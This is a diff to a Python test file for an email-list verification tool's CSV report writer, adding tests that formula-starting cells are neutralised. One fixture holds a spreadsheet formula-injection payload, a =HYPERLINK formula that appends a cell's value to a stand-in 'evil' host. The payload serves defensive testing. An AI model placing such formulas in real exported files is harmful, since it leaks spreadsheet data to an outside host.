@@ -1,4 +1,4 @@
-"""The per-row report's fast CSV writer (``Batch.report_csv``) writes exactly what ``csv.writer`` would."""
+"""The per-row report's writer (``Batch.report_csv``): the shared formula-safe writer, column by column."""
 
 from __future__ import annotations
 
@@ -8,24 +8,17 @@ import io
 from hypothesis import given
 from hypothesis import strategies as st
 
-from listguard.verification import Batch, Verdict
+from listguard.csvio import FORMULA_STARTS, CsvWriter
+from listguard.verification import REPORT_COLUMNS, REPORT_HEADER, Batch, Verdict, Verification
 from listguard.verification.reader import Records
 
-# Text with the characters that need quoting in CSV, mixed with ordinary ones.
-cells = st.text(alphabet=st.sampled_from('ab@.,"\r\n é\t'), max_size=12)
+# Text with the characters that need quoting or start a formula, mixed with ordinary ones.
+cells = st.text(alphabet=st.sampled_from('ab@.,"\r\n é\t=+-'), max_size=12)
 rows = st.tuples(cells, st.sampled_from(list(Verdict)), cells, cells)
 
 
-def written_by_csv_module(batch: Batch) -> str:
-    out = io.StringIO(newline="")
-    csv.writer(out).writerows(batch.report_rows())
-    return out.getvalue()
-
-
-@given(st.lists(rows, max_size=30), st.integers(min_value=1, max_value=10**6))
-def test_fast_writer_matches_the_csv_module(values: list[tuple[str, Verdict, str, str]], first: int) -> None:
-    # Given a batch of any emails, reasons and suggestions (separators, quotes and line breaks included)
-    batch = Batch(
+def batch_of(values: list[tuple[str, Verdict, str, str]], first: int) -> Batch:
+    return Batch(
         rows=range(first, first + len(values)),
         emails=[email for email, _, _, _ in values],
         verdicts=[verdict for _, verdict, _, _ in values],
@@ -34,10 +27,39 @@ def test_fast_writer_matches_the_csv_module(values: list[tuple[str, Verdict, str
         records=Records("", ","),
     )
 
-    # When the fast writer writes it
+
+@given(st.lists(rows, max_size=30), st.integers(min_value=1, max_value=10**6))
+def test_report_is_the_shared_writers_output(values: list[tuple[str, Verdict, str, str]], first: int) -> None:
+    # Given a batch of any emails, reasons and suggestions (formulas, separators, quotes, line breaks)
+    batch = batch_of(values, first)
+
+    # When the report writer writes it
     text = batch.report_csv()
 
-    # Then the text is byte for byte what csv.writer writes, and reads back to the same fields
-    assert text == written_by_csv_module(batch)
-    read_back = list(csv.reader(io.StringIO(text, newline="")))
-    assert read_back == [[str(n), e, v.value, r, s] for n, e, v, r, s in batch.report_rows()]
+    # Then it is byte for byte what the shared CSV writer writes (csv.writer's text, formulas guarded)
+    out = io.StringIO(newline="")
+    CsvWriter(out, REPORT_COLUMNS).write_rows(batch.report_rows())
+    assert REPORT_HEADER + text == out.getvalue()
+    # And no cell read back starts a formula
+    for cells_read in csv.reader(io.StringIO(text, newline="")):
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells_read)
+
+
+def test_formula_address_keeps_its_verdict_and_is_written_inert() -> None:
+    # Given a file holding a formula that is a valid address, and one that is not an address
+    data = b'email,name\n=1+1@example.com,Ann\n"=HYPERLINK(""http://evil/?x=""&A2,""x"")",Bob\n-,Cy\n'
+    verification = Verification(io.BytesIO(data))
+    batches = list(verification.batches())
+
+    # When its row report is written
+    text = "".join(batch.report_csv() for batch in batches)
+
+    # Then the verdicts follow the syntax (the first is valid) ...
+    assert [row.verdict for batch in batches for row in batch] == [
+        Verdict.VALID,
+        Verdict.INVALID_SYNTAX,
+        Verdict.INVALID_SYNTAX,
+    ]
+    # ... and every formula cell is written with a single quote in front
+    emails = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
+    assert emails == ["'=1+1@example.com", '\'=HYPERLINK("http://evil/?x="&A2,"x")', "'-"]
